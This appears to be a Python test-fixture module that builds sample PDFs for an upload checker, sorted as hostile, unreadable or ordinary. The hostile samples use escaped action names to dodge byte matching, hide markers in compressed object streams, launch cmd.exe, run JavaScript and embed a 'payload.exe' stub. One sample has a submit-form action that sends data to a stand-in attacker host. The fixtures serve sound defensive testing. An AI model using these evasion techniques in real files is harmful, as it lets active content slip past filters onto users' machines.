"""PDFs that carry active content, built two ways: written out byte by byte (so names can be
escaped as an attacker would, `/Java#53cript`), and saved by pikepdf into compressed object
streams (so no marker is visible in the raw bytes). Shared by the checker's tests and the
tests of every upload form that uses it.
"""

from __future__ import annotations

import io

import pikepdf

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>%s>>"


def raw_pdf(*, catalog_extra: bytes = b"", page_extra: bytes = b"", extra_objects: tuple[bytes, ...] = ()) -> bytes:
    """A well-formed PDF (exact xref offsets) with extra entries in the catalog and the page.

    `extra_objects` become objects 4, 5, ... and may be referenced as `4 0 R`.
    """
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog_extra + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        PAGE % page_extra,
        *extra_objects,
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, xref_at)
    return bytes(out)


def compressed_pdf(build) -> bytes:
    """A PDF made by pikepdf, with `build(pdf)` adding to it, saved with object streams."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    build(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True)
    return buffer.getvalue()


def _open_action_launch(pdf):
    pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))


def _page_script(pdf):
    pdf.pages[0].obj.AA = pdf.make_indirect(
        pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))
    )


def _embedded_file(pdf):
    pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00", filename="payload.exe")


def encrypted_pdf(*, user_password: str) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    buffer = io.BytesIO()
    pdf.save(buffer, encryption=pikepdf.Encryption(owner="owner-secret", user=user_password))
    return buffer.getvalue()


# name -> (bytes, a marker the old byte-string check looked for, or None)
HOSTILE = {
    "script with an escaped name": raw_pdf(catalog_extra=b"/OpenAction<</S/Java#53cript/JS(app.alert(1))>>"),
    "launch with an escaped name": raw_pdf(catalog_extra=b"/OpenAction<</S/L#61unch/F(cmd.exe)>>"),
    "escaped script name tree": raw_pdf(
        catalog_extra=b"/Names<</J#61vaScript 4 0 R>>",
        extra_objects=(b"<</Names[(x) 5 0 R]>>", b"<</S/JavaScript/JS(app.alert(1))>>"),
    ),
    "launch in a compressed object stream": compressed_pdf(_open_action_launch),
    "page script in a compressed object stream": compressed_pdf(_page_script),
    "embedded file in a compressed object stream": compressed_pdf(_embedded_file),
    "submit-form action on a link": raw_pdf(
        page_extra=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 10 10]"
        b"/A<</S/Subm#69tForm/F(https://evil.example/collect)>>>>]"
    ),
    "import-data action": raw_pdf(
        page_extra=b"/Annots[<</Subtype/Link/Rect[0 0 10 10]/A<</S/ImportData/F(data.fdf)>>>>]"
    ),
    "rich-media annotation": raw_pdf(page_extra=b"/Annots[<</Subtype/RichMedia/Rect[0 0 10 10]>>]"),
    "rich-media action": raw_pdf(page_extra=b"/Annots[<</Subtype/Link/Rect[0 0 10 10]/A<</S/RichMediaExecute>>>>]"),
    "harmless additional action": raw_pdf(page_extra=b"/AA<</O<</S/URI/URI(https://example.org/)>>>>"),
    "open action that is an action": raw_pdf(catalog_extra=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"),
    "file attachment annotation": raw_pdf(
        page_extra=b"/Annots[<</Subtype/FileAttachment/Rect[0 0 10 10]/FS 4 0 R>>]",
        extra_objects=(b"<</Type/Filespec/F(a.txt)>>",),
    ),
    "embedded files name tree": raw_pdf(
        catalog_extra=b"/Names<</Embedded#46iles 4 0 R>>", extra_objects=(b"<</Names[]>>",)
    ),
    "XFA form": raw_pdf(catalog_extra=b"/AcroForm<</Fields[]/XFA 4 0 R>>", extra_objects=(b"<<>>",)),
}

UNREADABLE = {
    "encrypted with a password": encrypted_pdf(user_password="secret"),
    "encrypted without a password": encrypted_pdf(user_password=""),
    "broken cross-reference table": raw_pdf().replace(b"startxref\n", b"startxref\n9"),
    "truncated": raw_pdf()[:120] + b"\n%%EOF\n",
}

ORDINARY = {
    "hand-written": raw_pdf(),
    "with a web link": raw_pdf(page_extra=b"/Annots[<</Subtype/Link/Rect[0 0 10 10]/A<</S/URI/URI(https://x.org)>>>>]"),
    "opening at a page (a destination, not an action)": raw_pdf(catalog_extra=b"/OpenAction[3 0 R/Fit]"),
    "saved with object streams": compressed_pdf(lambda pdf: None),
}
